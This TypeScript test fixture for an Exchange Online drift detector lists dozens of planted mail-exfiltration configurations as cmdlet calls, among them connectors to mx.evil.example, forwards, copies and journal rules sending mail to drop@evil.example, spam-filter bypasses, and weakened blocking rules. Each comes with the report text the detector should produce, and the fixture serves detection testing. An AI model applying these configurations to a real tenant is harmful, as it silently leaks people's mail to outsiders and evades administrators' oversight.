import type { Deed } from './tenant.ts';

/** A way out that somebody plants: how, where the mail goes, and what drift has to say of it. */
export interface Planted {
  readonly what: string;
  readonly by: readonly Deed[];
  /** Flags that ask for what is not read otherwise. */
  readonly flags?: readonly string[];
  /** What the report names: the object, and who can see what mail. */
  readonly says: readonly RegExp[];
}

const rule = (more: Deed[1]): readonly Deed[] => [['New-TransportRule', { Name: 'Tidy up', ...more }]];
const inOut = { FromScope: 'InOrganization' } as const;

export const planted: readonly Planted[] = [
  {
    what: 'a connector that takes all mail to a host',
    by: [
      [
        'New-OutboundConnector',
        {
          Name: 'Relay',
          ConnectorType: 'Partner',
          RecipientDomains: ['*'],
          UseMXRecord: false,
          SmartHosts: ['mx.evil.example'],
        },
      ],
    ],
    says: [/outbound connector Relay/u, /mail for every domain to mx\.evil\.example/u],
  },
  {
    what: 'a connector for one partner',
    by: [
      [
        'New-OutboundConnector',
        {
          Name: 'Adatum',
          ConnectorType: 'Partner',
          RecipientDomains: ['adatum.example'],
          UseMXRecord: false,
          SmartHosts: ['198.51.100.66'],
        },
      ],
    ],
    says: [/outbound connector Adatum/u, /mail for adatum\.example to 198\.51\.100\.66/u],
  },
  {
    what: 'a connector in test mode',
    by: [
      [
        'New-OutboundConnector',
        {
          Name: 'Trial',
          TestMode: true,
          RecipientDomains: ['gmail.com'],
          UseMXRecord: false,
          SmartHosts: ['mx.evil.example'],
        },
      ],
    ],
    says: [/outbound connector Trial/u, /may take, in test mode, mail for gmail\.com to mx\.evil\.example/u],
  },
  {
    what: 'a connector for rules, and a rule that uses it',
    by: [
      [
        'New-OutboundConnector',
        { Name: 'Side', IsTransportRuleScoped: true, UseMXRecord: false, SmartHosts: ['mx.evil.example'] },
      ],
      ['New-TransportRule', { Name: 'Tidy up', ...inOut, RouteMessageOutboundConnector: 'Side' }],
    ],
    says: [/outbound connector Side/u, /transport rule Tidy up/u, /through the connector Side/u],
  },
  {
    what: 'one more domain of a declared connector',
    by: [['Set-OutboundConnector', { Identity: 'To Fabrikam', RecipientDomains: ['fabrikam.com', 'adatum.example'] }]],
    says: [/outbound connector To Fabrikam/u, /adatum\.example/u],
  },
  {
    what: 'another host of a declared connector',
    by: [['Set-OutboundConnector', { Identity: 'To Fabrikam', UseMXRecord: false, SmartHosts: ['mx.evil.example'] }]],
    says: [/outbound connector To Fabrikam/u, /mx\.evil\.example/u],
  },
  {
    what: 'another certificate of a declared connector',
    by: [
      [
        'Set-OutboundConnector',
        { Identity: 'To Fabrikam', TlsSettings: 'DomainValidation', TlsDomain: 'evil.example' },
      ],
    ],
    says: [/outbound connector To Fabrikam/u, /tlsDomain/u, /evil\.example/u],
  },
  {
    what: 'a connector that is gone',
    by: [['Remove-OutboundConnector', { Identity: 'To Fabrikam', Confirm: false }]],
    says: [/outbound connector To Fabrikam/u],
  },
  {
    what: 'an inbound connector that lets anybody send on who has a certificate',
    by: [
      [
        'New-InboundConnector',
        {
          Name: 'Printers',
          ConnectorType: 'OnPremises',
          SenderDomains: ['*'],
          TlsSenderCertificateName: '*.evil.example',
          RequireTls: true,
        },
      ],
    ],
    says: [/inbound connector Printers/u, /out to anywhere, from whoever shows a certificate of \*\.evil\.example/u],
  },
  {
    what: 'an inbound connector that lets anybody in as one of ours',
    by: [
      [
        'New-InboundConnector',
        {
          Name: 'Printers',
          ConnectorType: 'OnPremises',
          SenderDomains: ['*'],
          SenderIPAddresses: ['198.51.100.66'],
          TreatMessagesAsInternal: true,
        },
      ],
    ],
    says: [/inbound connector Printers/u, /198\.51\.100\.66, as if it came from inside/u],
  },
  {
    what: 'one more address of a declared inbound connector',
    by: [['Set-InboundConnector', { Identity: 'Scanners', SenderIPAddresses: ['203.0.113.7', '198.51.100.66'] }]],
    says: [/inbound connector Scanners/u, /198\.51\.100\.66/u],
  },
  {
    what: 'a host that the filter looks past',
    by: [['Set-InboundConnector', { Identity: 'Scanners', EFSkipIPs: ['198.51.100.66'] }]],
    says: [/inbound connector Scanners/u, /efSkipIPs/u, /198\.51\.100\.66/u],
  },
  {
    what: 'a partner without TLS',
    by: [['New-InboundConnector', { Name: 'Friends', SenderDomains: ['evil.example'], RequireTls: false }]],
    says: [/inbound connector Friends/u, /lets mail in from evil\.example/u],
  },
  {
    what: 'a rule that sends mail elsewhere instead',
    by: rule({ ...inOut, RedirectMessageTo: ['drop@evil.example'] }),
    says: [/transport rule Tidy up/u, /sends mail to drop@evil\.example instead/u],
  },
  ...(['BlindCopyTo', 'CopyTo', 'AddToRecipients'] as const).map((action): Planted => ({
    what: `a rule with ${action}`,
    by: rule({ SentTo: ['ana@contoso.com'], [action]: ['drop@evil.example'] }),
    says: [/transport rule Tidy up/u, /copies mail to drop@evil\.example/u],
  })),
  {
    what: 'a rule that reports mail whole',
    by: rule({ ...inOut, GenerateIncidentReport: 'drop@evil.example', IncidentReportContent: ['AttachOriginalMail'] }),
    says: [/transport rule Tidy up/u, /copies mail to drop@evil\.example/u],
  },
  {
    what: 'a rule that asks somebody outside',
    by: rule({ ...inOut, ModerateMessageByUser: ['ben@contoso.com'] }),
    says: [/transport rule Tidy up/u, /hands mail to ben@contoso\.com/u],
  },
  {
    what: 'one more recipient of a declared rule that copies',
    by: [
      [
        'Set-TransportRule',
        { Identity: 'Journal to archive', BlindCopyTo: ['archive@contoso.com', 'drop@evil.example'] },
      ],
    ],
    says: [/transport rule Journal to archive/u, /drop@evil\.example/u],
  },
  {
    what: 'a rule with StopRuleProcessing put first',
    by: rule({ From: ['ben@contoso.com'], PrependSubject: '.', StopRuleProcessing: true, Priority: 0 }),
    says: [/transport rule Tidy up/u, /ben@contoso\.com/u],
  },
  {
    what: 'an exception added to the block',
    by: [['Set-TransportRule', { Identity: 'Block forwards', ExceptIfFrom: ['ben@contoso.com'] }]],
    says: [/transport rule “?Block forwards/u, /ben@contoso\.com/u],
  },
  {
    what: 'a block that only audits',
    by: [['Set-TransportRule', { Identity: 'Block forwards', Mode: 'Audit' }]],
    says: [/transport rule “?Block forwards/u, /mode/u],
  },
  {
    what: 'a block that is told to end',
    by: [['Set-TransportRule', { Identity: 'Block forwards', ExpiryDate: '2026-11-20T00:00:00Z' }]],
    says: [/transport rule “?Block forwards/u, /expiryDate/u],
  },
  {
    what: 'a block that is switched off',
    by: [['Disable-TransportRule', { Identity: 'Block forwards', Confirm: false }]],
    says: [/transport rule “?Block forwards/u],
  },
  {
    what: 'a contact whose outside address changed',
    by: [['Set-MailContact', { Identity: 'Auditor', ExternalEmailAddress: 'drop@evil.example' }]],
    says: [/adele@contoso\.com/u, /drop@evil\.example/u],
  },
  {
    what: 'a group in the scope that grew',
    by: [['Add-DistributionGroupMember', { Identity: 'fwd@contoso.com', Member: 'ben@contoso.com' }]],
    says: [/group “?fwd/u, /ben@contoso\.com/u],
  },
  {
    what: 'a forward of a mailbox',
    by: [['Set-Mailbox', { Identity: 'ben@contoso.com', ForwardingSmtpAddress: 'drop@evil.example' }]],
    says: [/ben@contoso\.com/u, /drop@evil\.example/u],
  },
  {
    what: 'SMTP AUTH with a rule that skips the filter',
    by: [
      ['Set-CASMailbox', { Identity: 'ben@contoso.com', SmtpClientAuthenticationDisabled: false }],
      ['New-TransportRule', { Name: 'Tidy up', From: ['ben@contoso.com'], SetSCL: '-1' }],
    ],
    says: [/transport rule Tidy up/u, /skips spam filtering/u, /ben@contoso\.com/u],
  },
  {
    what: 'SMTP AUTH with a rule that skips the filter, where every mailbox is asked',
    by: [
      ['Set-CASMailbox', { Identity: 'ben@contoso.com', SmtpClientAuthenticationDisabled: false }],
      ['New-TransportRule', { Name: 'Tidy up', From: ['ben@contoso.com'], SetSCL: '-1' }],
    ],
    flags: ['--smtp-auth'],
    says: [/SMTP AUTH setting ben@contoso\.com/u, /transport rule Tidy up/u, /skips spam filtering/u],
  },
  {
    what: 'SMTP AUTH of one mailbox, where every mailbox is asked',
    by: [['Set-CASMailbox', { Identity: 'kofi@contoso.com', SmtpClientAuthenticationDisabled: false }]],
    flags: ['--smtp-auth'],
    says: [/SMTP AUTH setting kofi@contoso\.com/u, /opens sending by SMTP AUTH/u],
  },
  {
    what: 'SMTP AUTH for everybody',
    by: [['Set-TransportConfig', { SmtpClientAuthenticationDisabled: false }]],
    says: [/SMTP AUTH/u],
  },
  {
    what: 'a remote domain that lets forwards out',
    by: [['New-RemoteDomain', { Name: 'Evil', DomainName: 'evil.example' }]],
    says: [/evil\.example/u],
  },
  {
    what: 'a remote domain that counts as inside',
    by: [
      ['New-RemoteDomain', { Name: 'Evil', DomainName: 'evil.example' }],
      ['Set-RemoteDomain', { Identity: 'Evil', AutoForwardEnabled: false, IsInternal: true }],
    ],
    says: [/evil\.example/u],
  },
  {
    what: 'copies of suspicious mail to somebody outside',
    by: [
      [
        'Set-HostedOutboundSpamFilterPolicy',
        {
          Identity: 'Default',
          BccSuspiciousOutboundMail: true,
          BccSuspiciousOutboundAdditionalRecipients: ['drop@evil.example'],
        },
      ],
    ],
    says: [/Default/u, /drop@evil\.example/u],
  },
  {
    what: 'a journal of all mail',
    by: [['New-JournalRule', { Name: 'Archive 2', JournalEmailAddress: 'drop@evil.example', Enabled: true }]],
    says: [/journal rule Archive 2/u, /copies all mail whole to drop@evil\.example/u],
  },
  {
    what: 'a journal of one person, switched on',
    by: [
      [
        'New-JournalRule',
        {
          Name: 'Archive 2',
          Recipient: 'ana@contoso.com',
          Scope: 'External',
          JournalEmailAddress: 'drop@evil.example',
        },
      ],
      ['Enable-JournalRule', { Identity: 'Archive 2', Confirm: false }],
    ],
    says: [/journal rule Archive 2/u, /copies mail of ana@contoso\.com whole to drop@evil\.example/u],
  },
  {
    what: 'another target of an accepted journal',
    by: [['Set-JournalRule', { Identity: 'Archive', JournalEmailAddress: 'drop@evil.example' }]],
    says: [/journal rule Archive/u, /drop@evil\.example/u],
  },
  {
    what: 'an address for journal reports that cannot be delivered',
    by: [['Set-TransportConfig', { JournalingReportNdrTo: 'drop@evil.example' }]],
    says: [/JournalingReportNdrTo/u, /journal reports that cannot be delivered to drop@evil\.example/u],
  },
];
